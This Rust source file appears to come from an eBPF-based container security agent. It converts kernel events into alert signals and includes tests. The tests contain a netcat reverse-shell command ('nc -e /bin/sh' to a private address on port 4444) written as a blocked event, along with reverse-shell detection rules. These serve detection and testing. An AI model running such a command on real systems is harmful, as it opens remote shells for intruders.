//! Signals from what the kernel and the shim say.

use std::path::Path;

use portcullis_bpf::abi::{Ancestor, Behaviour, Event, Hook, Verdict, flags, identified_by, place};
use portcullis_policy::{
    catalog::{self, BEHAVIOUR},
    policyset,
    record::{ContainerRecord, Guard},
};
use portcullis_proto::v1;

use crate::{
    clock::{BootOffset, timestamp},
    containers::Container,
    events::{BURST, PER_SECOND},
    text,
    tools::Tools,
};

/// An executed tool.
pub const RULE_NET_UTIL: &str = "net_util_in_container";
/// What a container does more of than is told one by one.
pub const RULE_SUPPRESSED: &str = "signals_suppressed";
/// Events of a container that are in no signal.
pub const RULE_LOST: &str = "events_lost";
/// An operator has contained a container, or tried to.
pub const RULE_CONTAINMENT: &str = "containment";
/// An operator has taken containment back, or tried to.
pub const RULE_RELEASE: &str = "release";
/// A container without guard.
pub const RULE_UNGUARDED: &str = "container_unguarded";

/// Directories for temporary files, in every container and in none by intention part of an image.
const TEMPORARY: [&str; 4] = ["/tmp", "/var/tmp", "/dev/shm", "/run"];

const CRI: &str = "io.kubernetes.cri.";

/// The signal of an event. The container is `None` when it has no record; `origin` is how the process came to be there.
pub fn from_event(
    event: &Event,
    origin: v1::Origin,
    container: Option<&Container>,
    tools: &Tools,
    offset: BootOffset,
) -> v1::Signal {
    let (tool, severity) = tool_message(event, tools);
    let record = container.map(|container| container.record.as_ref());
    let verdict = verdict(event.verdict);
    let argv: Vec<String> = event.argv.iter().map(|argument| text::lossy(argument)).collect();
    let argv_truncated = event.flags & (flags::ARGV_TRUNCATED | flags::EVENT_REDUCED) != 0;
    let at = |boot_ns| Some(timestamp(offset.wall_ns(boot_ns)));
    let socket = matches!(event.hook, Hook::SocketCreate | Hook::SocketConnect | Hook::TcpConnect);
    let executed = !socket && !matches!(event.hook, Hook::Bpf | Hook::Pin | Hook::Cgroup);
    let done = match (event.verdict, executed) {
        (Verdict::Detected, true) => "executed",
        (Verdict::Detected, false) => "seen",
        (Verdict::WouldBlock, true) => "executed (enforce mode would block it)",
        (Verdict::WouldBlock, false) => "seen (enforce mode would block it)",
        (Verdict::Blocked, _) => "blocked",
        (Verdict::Killed, _) => "killed",
    };
    let place = match record {
        Some(record) => text::escaped(&record.container_id),
        None => format!("with cgroup {}", event.cgroup_id),
    };
    let command = text::command_line(argv.iter().map(String::as_str), argv_truncated);
    let connected = if socket { "connecting" } else { "connected" };
    let remote = event.remote.map(|remote| format!(", {connected} to {remote}")).unwrap_or_default();
    let message = if event.tool == Behaviour::Locked as u32 {
        format!("exec {done} because an operator has locked the container {place}: {command}")
    } else if event.hook == Hook::Bpf {
        format!("access to the guard's BPF objects {done} in container {place}: {command}")
    } else if event.hook == Hook::Pin {
        format!("removal of the guard's pins {done} in container {place}: {command}")
    } else if event.hook == Hook::Cgroup {
        format!("moving a process out of its cgroup {done} in container {place}: {command}")
    } else {
        format!("{} ({}) {done} in container {place}{remote}: {command}", tool.id, tool.category)
    };
    v1::Signal {
        rule: if tool.category == BEHAVIOUR { tool.id.clone() } else { RULE_NET_UTIL.to_owned() },
        severity: severity.into(),
        verdict: verdict.into(),
        time: at(event.time_ns),
        message,
        tool: Some(tool),
        identified_by: identifications(event.identified_by),
        container: Some(known_or_cgroup(container, event.cgroup_id)),
        process: Some(v1::Process {
            pid: event.pid,
            tid: event.tid,
            container_pid: event.ns_pid,
            uid: event.uid,
            gid: event.gid,
            invoked_name: text::lossy(&event.invoked),
            filename: text::lossy(&event.filename),
            filename_truncated: event.flags & flags::FILENAME_TRUNCATED != 0,
            exe: text::lossy(&event.exe),
            exe_truncated: event.flags & flags::EXE_TRUNCATED != 0,
            argv,
            argv_truncated,
            argv_unconfirmed: event.flags & flags::ARGV_UNCONFIRMED != 0,
            cwd: text::lossy(&event.cwd),
            cwd_truncated: event.flags & flags::CWD_TRUNCATED != 0,
            tty: text::lossy(&event.tty),
            start_time: at(event.start_time_ns),
            argc: event.argc,
            places: places(event),
        }),
        lineage: event.lineage.iter().map(|ancestor| ancestor_message(ancestor, offset)).collect(),
        lineage_truncated: event.flags & (flags::LINEAGE_TRUNCATED | flags::EVENT_REDUCED) != 0,
        origin: origin.into(),
        policy: tools
            .policy_name(event)
            .or_else(|| container.map(|container| container.standing.policy.clone()))
            .unwrap_or_default(),
        backend: match event.hook {
            Hook::BprmCheck
            | Hook::BprmCommitted
            | Hook::Mmap
            | Hook::SocketCreate
            | Hook::SocketConnect
            | Hook::Bpf
            | Hook::Pin => v1::Backend::Lsm.into(),
            Hook::Tracepoint | Hook::TcpConnect => v1::Backend::Tracepoint.into(),
            // With either.
            Hook::Cgroup => container.map_or(v1::Backend::Unspecified, |known| backend(known.record.backend)).into(),
        },
        remote: event
            .remote
            .filter(|remote| remote.port() != 0)
            .map(|remote| v1::Endpoint { address: remote.ip().to_canonical().to_string(), port: remote.port().into() }),
        // 0 where no rule decided.
        policy_rule: event.rule.wrapping_add(1),
        // What others know: the store, what is folded into it, and people.
        ..v1::Signal::default()
    }
}

fn places(event: &Event) -> Vec<i32> {
    let exe = text::lossy(&event.exe);
    let temporary = event.flags & flags::EXE_TRUNCATED == 0
        && event.place & place::MEMFD == 0
        && TEMPORARY.iter().any(|directory| Path::new(&exe).starts_with(directory));
    [
        (event.place & place::WRITABLE_DIRECTORY != 0, v1::Place::WritableDirectory),
        (temporary, v1::Place::TemporaryDirectory),
        (event.place & place::UPPER_LAYER != 0, v1::Place::UpperLayer),
        (event.place & place::MEMFD != 0, v1::Place::Memfd),
        (event.place & place::DELETED != 0, v1::Place::Deleted),
    ]
    .into_iter()
    .filter(|(holds, _)| *holds)
    .map(|(_, place)| place.into())
    .collect()
}

/// The signal of a container that runs without its guard.
pub fn unguarded(container: &Container, reason: &str) -> v1::Signal {
    let record = &container.record;
    v1::Signal {
        rule: RULE_UNGUARDED.to_owned(),
        severity: v1::Severity::High.into(),
        time: Some(timestamp(record.created_ns)),
        container: Some(container_message(container)),
        policy: container.standing.policy.clone(),
        backend: backend(record.backend).into(),
        message: format!(
            "container {} runs without its guard: {}",
            text::escaped(&record.container_id),
            text::escaped(reason)
        ),
        ..v1::Signal::default()
    }
}

/// The signal of a container that makes too many, without its numbers. `wall_ns`: when that began, nanoseconds since 1970.
pub fn suppressed(cgroup_id: u64, container: Option<&Container>, wall_ns: u64) -> v1::Signal {
    about_events(RULE_SUPPRESSED, cgroup_id, container, wall_ns, |place| {
        format!(
            "container {place} makes more than {PER_SECOND} signals a second after the first {BURST}: the others are told by \
             number only"
        )
    })
}

/// The signal of a container of which something was lost, without its numbers. `wall_ns`: when that was found, nanoseconds since 1970.
pub fn lost(cgroup_id: u64, container: Option<&Container>, wall_ns: u64) -> v1::Signal {
    about_events(RULE_LOST, cgroup_id, container, wall_ns, |place| {
        format!(
            "events of container {place} are in no signal, and are told by number only: the ring buffer was full, the agent ended \
             before it had stored them, or its database did not take them"
        )
    })
}

fn about_events(
    rule: &str,
    cgroup_id: u64,
    container: Option<&Container>,
    wall_ns: u64,
    message: impl FnOnce(&str) -> String,
) -> v1::Signal {
    let place = match container {
        Some(container) => text::escaped(&container.record.container_id),
        None => format!("with cgroup {cgroup_id}"),
    };
    v1::Signal {
        rule: rule.to_owned(),
        // It may be to hide something.
        severity: v1::Severity::High.into(),
        time: Some(timestamp(wall_ns)),
        container: Some(known_or_cgroup(container, cgroup_id)),
        policy: container.map(|container| container.standing.policy.clone()).unwrap_or_default(),
        backend: container.map_or(v1::Backend::Unspecified, |container| backend(container.record.backend)).into(),
        message: message(&place),
        ..v1::Signal::default()
    }
}

/// The signal of what an operator asked for. `place` has id and namespace as they were given, for what is not known here.
pub fn operation(
    rule: &str,
    container: Option<&Container>,
    place: &Place<'_>,
    operation: v1::Operation,
    time_ns: u64,
) -> v1::Signal {
    let measures: Vec<&str> = operation.measures().map(measure_word).collect();
    let measures = if measures.is_empty() { "all".to_owned() } else { measures.join(", ") };
    let process = if operation.pid == 0 { String::new() } else { format!(" {}", operation.pid) };
    let by = match &operation.caller {
        None => String::new(),
        Some(caller) if caller.certificate.is_empty() => format!(" by uid {}, pid {}", caller.uid, caller.pid),
        Some(caller) => format!(" by certificate {}, serial {}", caller.certificate, caller.serial),
    };
    let outcome = match operation.error.as_str() {
        "" => "done".to_owned(),
        error => format!("not done: {}", text::escaped(error)),
    };
    v1::Signal {
        rule: rule.to_owned(),
        severity: v1::Severity::Low.into(),
        time: Some(timestamp(time_ns)),
        policy: container.map(|container| container.standing.policy.clone()).unwrap_or_default(),
        backend: backend(container.and_then(|container| container.record.backend)).into(),
        message: format!("{rule} of container {} ({measures}{process}){by}: {outcome}", text::escaped(place.id)),
        container: Some(container.map_or_else(
            || v1::Container {
                id: place.id.to_owned(),
                containerd_namespace: place.namespace.to_owned(),
                ..v1::Container::default()
            },
            container_message,
        )),
        operation: Some(operation),
        ..v1::Signal::default()
    }
}

fn known_or_cgroup(container: Option<&Container>, cgroup_id: u64) -> v1::Container {
    match container {
        Some(container) => container_message(container),
        None => v1::Container { cgroup_id, guarded: true, ..v1::Container::default() },
    }
}

/// A container as a request names it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Place<'a> {
    /// containerd's id.
    pub id: &'a str,
    /// containerd's namespace; empty for any.
    pub namespace: &'a str,
}

/// Characters of a name; containerd's own names have 76 at most.
const NAME_CHARS: usize = 256;

impl Place<'_> {
    /// No longer than a name can be: what is longer names nothing, and is told and stored many times over.
    pub fn cut(self) -> Self {
        Self { id: text::beginning(self.id, NAME_CHARS), namespace: text::beginning(self.namespace, NAME_CHARS) }
    }
}

/// A measure's word, as the command line has it.
fn measure_word(measure: v1::Measure) -> &'static str {
    match measure {
        v1::Measure::Unspecified => "unknown",
        v1::Measure::Freeze => "freeze",
        v1::Measure::Kill => "kill",
        v1::Measure::KillProcess => "kill-process",
        v1::Measure::IsolateNetwork => "isolate-network",
        v1::Measure::Lock => "lock",
    }
}

/// A container as the API shows it, without its counters.
pub fn container_message(container: &Container) -> v1::Container {
    let Container { record, standing, image, ended_ns } = container;
    let (guarded, unguarded_reason) = match &record.guard {
        Guard::Guarded => (true, String::new()),
        Guard::Unguarded { reason } => (false, reason.clone()),
    };
    v1::Container {
        id: record.container_id.clone(),
        containerd_namespace: record.containerd_namespace.clone(),
        image: image.name().unwrap_or_default().to_owned(),
        cgroup_id: record.cgroup_id,
        pod: pod(record),
        mode: mode(standing.mode).into(),
        policy: standing.policy.clone(),
        policy_reason: standing.policy_reason.clone(),
        guarded,
        unguarded_reason,
        created: Some(timestamp(record.created_ns)),
        ended: (*ended_ns).map(timestamp),
        counters: None,
        mode_reason: standing.mode_reason.clone(),
        backend: backend(record.backend).into(),
        contents_unknown: record.contents_unknown.clone().unwrap_or_default(),
        containment: None,
    }
}

fn pod(record: &ContainerRecord) -> Option<v1::Pod> {
    let annotation = |name: &str| record.annotations.get(&format!("{CRI}{name}")).cloned();
    let (name, namespace) = (annotation("sandbox-name"), annotation("sandbox-namespace"));
    if name.is_none() && namespace.is_none() {
        return None;
    }
    Some(v1::Pod {
        name: name.unwrap_or_default(),
        namespace: namespace.unwrap_or_default(),
        sandbox_id: annotation("sandbox-id").unwrap_or_default(),
        container_name: annotation("container-name").unwrap_or_default(),
        uid: annotation("sandbox-uid").unwrap_or_default(),
    })
}

fn ancestor_message(ancestor: &Ancestor, offset: BootOffset) -> v1::Ancestor {
    v1::Ancestor {
        pid: ancestor.pid,
        container_pid: ancestor.ns_pid,
        uid: ancestor.uid,
        exe: text::lossy(&ancestor.exe),
        exe_truncated: ancestor.flags & flags::EXE_TRUNCATED != 0,
        argv: ancestor.argv.iter().map(|argument| text::lossy(argument)).collect(),
        argv_truncated: ancestor.flags & flags::ARGV_TRUNCATED != 0,
        start_time: Some(timestamp(offset.wall_ns(ancestor.start_time_ns))),
    }
}

fn identifications(bits: u32) -> Vec<i32> {
    [
        (identified_by::INVOKED_NAME, v1::Identification::InvokedName),
        (identified_by::RESOLVED_NAME, v1::Identification::ResolvedName),
        (identified_by::FINGERPRINT, v1::Identification::Fingerprint),
        (identified_by::APPLET, v1::Identification::Applet),
        (identified_by::LOADER, v1::Identification::Loader),
        (identified_by::MAPPING, v1::Identification::Mapping),
        (identified_by::STDIO, v1::Identification::Stdio),
        (identified_by::PLACE, v1::Identification::Place),
        (identified_by::SOCKET, v1::Identification::Socket),
        (identified_by::PATTERN, v1::Identification::Pattern),
    ]
    .into_iter()
    .filter(|(bit, _)| bits & bit != 0)
    .map(|(_, identification)| identification.into())
    .collect()
}

/// A verdict as the API shows it.
pub fn verdict(verdict: Verdict) -> v1::Verdict {
    match verdict {
        Verdict::Detected => v1::Verdict::Detected,
        Verdict::WouldBlock => v1::Verdict::WouldBlock,
        Verdict::Blocked => v1::Verdict::Blocked,
        Verdict::Killed => v1::Verdict::Killed,
    }
}

fn tool_message(event: &Event, tools: &Tools) -> (v1::Tool, v1::Severity) {
    let Some((tool, level)) = tools.of(event) else {
        // The kernel's tables held another catalogue, or another policy's patterns.
        let tool =
            v1::Tool { id: format!("tool-{}", event.tool), category: "unknown".to_owned(), techniques: Vec::new() };
        return (tool, v1::Severity::Medium);
    };
    (v1::Tool { id: tool.id, category: tool.category, techniques: tool.techniques }, severity(level))
}

/// A severity as the API shows it.
pub fn severity(severity: catalog::Severity) -> v1::Severity {
    match severity {
        catalog::Severity::Low => v1::Severity::Low,
        catalog::Severity::Medium => v1::Severity::Medium,
        catalog::Severity::High => v1::Severity::High,
        catalog::Severity::Critical => v1::Severity::Critical,
    }
}

/// A policy's mode as the API shows it.
pub fn mode(mode: policyset::Mode) -> v1::Mode {
    match mode {
        policyset::Mode::Detect => v1::Mode::Detect,
        policyset::Mode::Enforce => v1::Mode::Enforce,
    }
}

/// A backend as the API shows it.
pub fn backend(backend: Option<policyset::Backend>) -> v1::Backend {
    match backend {
        None => v1::Backend::Unspecified,
        Some(policyset::Backend::Lsm) => v1::Backend::Lsm,
        Some(policyset::Backend::Tracepoint) => v1::Backend::Tracepoint,
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use portcullis_bpf::abi;

    use super::*;
    use crate::{
        clock,
        containers::{Image, Standing},
        testing,
        tools::{Known, Meaning},
    };

    fn container(cgroup_id: u64) -> Container {
        let mut record = testing::record(cgroup_id, "c1");
        record.annotations.insert(format!("{CRI}sandbox-name"), "web-1".into());
        record.annotations.insert(format!("{CRI}sandbox-namespace"), "shop".into());
        record.annotations.insert(format!("{CRI}sandbox-uid"), "2f1c".into());
        let standing = Standing::of(&record);
        Container { record: Arc::new(record), standing, image: Image::Known("alpine:3".into()), ended_ns: None }
    }

    fn tools() -> Tools {
        Tools::new(Known::new(catalog::Catalog::shipped().unwrap(), [].into()))
    }

    /// The kernel's id of a tool.
    fn tool_id(id: &str) -> u32 {
        let catalog = catalog::Catalog::shipped().unwrap();
        catalog.tools().iter().find(|tool| tool.id == id).unwrap().kernel_id()
    }

    #[test]
    fn an_event_becomes_a_signal() {
        let tools = tools();
        let event = testing::event(42, tool_id("nc"), 10);
        let signal = from_event(&event, v1::Origin::Container, Some(&container(42)), &tools, BootOffset::now());
        assert_eq!(signal.message, "nc (netcat) blocked in container c1: nc -e /bin/sh 10.0.0.1 4444");
        assert_eq!(signal.rule, "net_util_in_container");
        assert_eq!(signal.verdict(), v1::Verdict::Blocked);
        assert_eq!(signal.backend(), v1::Backend::Lsm);
        assert_eq!(signal.origin(), v1::Origin::Container);
        assert_eq!(signal.identified_by, [1, 2]);
        let container = signal.container.unwrap();
        assert_eq!((container.id.as_str(), container.image.as_str(), container.guarded), ("c1", "alpine:3", true));
        let pod = container.pod.unwrap();
        assert_eq!((pod.namespace.as_str(), pod.name.as_str(), pod.uid.as_str()), ("shop", "web-1", "2f1c"));
        let process = signal.process.unwrap();
        assert_eq!((process.pid, process.tid, process.container_pid, process.argc), (100, 101, 7, 5));
        assert_eq!(signal.lineage[0].argv, ["sh", "-c", "x"]);
        let boot_ns = BootOffset::now().wall_ns(0);
        let time = u64::try_from(clock::from_timestamp(&signal.time.unwrap()).unwrap()).unwrap();
        assert!(time.abs_diff(boot_ns) < 1_000_000_000);
    }

    #[test]
    fn an_exec_in_a_locked_container_is_no_rules_business() {
        let mut event = testing::event(42, Behaviour::Locked as u32, 10);
        (event.rule, event.identified_by) = (abi::NO_RULE, 0);
        let signal = from_event(&event, v1::Origin::Container, Some(&container(42)), &tools(), BootOffset::now());
        assert_eq!((signal.rule.as_str(), signal.policy_rule, signal.severity()), ("locked", 0, v1::Severity::Medium));
        let said = "exec blocked because an operator has locked the container c1: nc -e /bin/sh 10.0.0.1 4444";
        assert_eq!(signal.message, said);
    }

    #[test]
    fn a_behaviour_is_a_rule_of_its_own() {
        let tools = tools();
        let mut event = testing::event(42, tool_id("reverse_shell"), 10);
        event.identified_by = identified_by::STDIO;
        event.exe = b"/dev/shm/x".to_vec();
        event.place = place::UPPER_LAYER;
        event.remote = Some("[::ffff:10.0.0.1]:4444".parse().unwrap());
        let signal = from_event(&event, v1::Origin::Container, None, &tools, BootOffset::now());
        assert_eq!(signal.rule, "reverse_shell");
        assert_eq!(signal.severity(), v1::Severity::High);
        assert_eq!(signal.remote, Some(v1::Endpoint { address: "10.0.0.1".into(), port: 4444 }));
        assert!(signal.message.contains("blocked in container with cgroup 42, connected to"), "{}", signal.message);
        let process = signal.process.unwrap();
        assert!(process.places().eq([v1::Place::TemporaryDirectory, v1::Place::UpperLayer]));
        event.exe = b"/tmpfiles/x".to_vec();
        event.place = 0;
        event.remote = Some("10.0.0.1:0".parse().unwrap());
        let signal = from_event(&event, v1::Origin::Container, None, &tools, BootOffset::now());
        assert!(signal.remote.is_none() && signal.process.unwrap().places.is_empty());

        event.tool = tool_id("shell_socket");
        (event.hook, event.verdict) = (Hook::TcpConnect, Verdict::WouldBlock);
        event.remote = Some("10.0.0.1:53".parse().unwrap());
        let signal = from_event(&event, v1::Origin::Container, None, &tools, BootOffset::now());
        let told = "shell_socket (behaviour) seen (enforce mode would block it) in container with cgroup 42, connecting to \
                    10.0.0.1:53: ";
        assert!(signal.message.starts_with(told), "{}", signal.message);
        assert_eq!((signal.backend(), signal.severity()), (v1::Backend::Tracepoint, v1::Severity::Medium));
    }

    #[test]
    fn the_policy_is_the_one_that_made_the_event() {
        let catalog = catalog::Catalog::shipped().unwrap();
        let meaning = |name: &str| Arc::new(Meaning { name: name.to_owned(), ..Meaning::default() });
        // Wherever the container is by now.
        let known = Known::new(catalog.clone(), [(1, meaning("first")), (2, meaning("other"))].into());
        let event = Event { rule: 4, ..testing::event(42, tool_id("nc"), 10) };
        let signal =
            from_event(&event, v1::Origin::Container, Some(&container(42)), &Tools::new(known), BootOffset::now());
        assert_eq!((signal.policy.as_str(), signal.policy_rule), ("first", 5));
    }

    #[test]
    fn hostile_bytes_stay_readable() {
        let tools = tools();
        let mut event = testing::event(42, u32::MAX, 10);
        event.argv = vec![b"\xff\x1b[2J".to_vec(), b"a b".to_vec()];
        event.flags = flags::ARGV_TRUNCATED;
        let signal = from_event(&event, v1::Origin::Probe, None, &tools, BootOffset::now());
        assert_eq!(
            signal.message,
            format!("tool-{} (unknown) blocked in container with cgroup 42: \u{fffd}\\u{{1b}}[2J 'a b' …", u32::MAX)
        );
        assert_eq!(signal.process.unwrap().argv[0], "\u{fffd}\x1b[2J");
        assert_eq!(signal.origin, i32::from(v1::Origin::Probe));
    }

    #[test]
    fn a_container_that_makes_too_many_is_named() {
        let signal = suppressed(42, Some(&container(42)), 1_700_000_000_000_000_000);
        assert!(signal.message.starts_with("container c1 makes more than 100 signals a second"), "{}", signal.message);
        assert_eq!((signal.rule.as_str(), signal.policy.as_str()), ("signals_suppressed", "default"));
        let signal = suppressed(42, None, 1_700_000_000_000_000_000);
        assert!(signal.message.starts_with("container with cgroup 42 makes"), "{}", signal.message);
        assert_eq!(signal.container.unwrap().cgroup_id, 42);
    }

    #[test]
    fn an_unguarded_container_becomes_a_signal() {
        let mut record = testing::record(0, "c1");
        record.guard = Guard::Unguarded { reason: "no cgroup\n".into() };
        let standing = Standing::of(&record);
        let container = Container { record: Arc::new(record), standing, image: Image::None, ended_ns: None };
        let signal = unguarded(&container, "no cgroup\n");
        assert_eq!(signal.message, "container c1 runs without its guard: no cgroup\\n");
        assert_eq!(signal.severity(), v1::Severity::High);
        assert!(!signal.container.unwrap().guarded);
    }
}
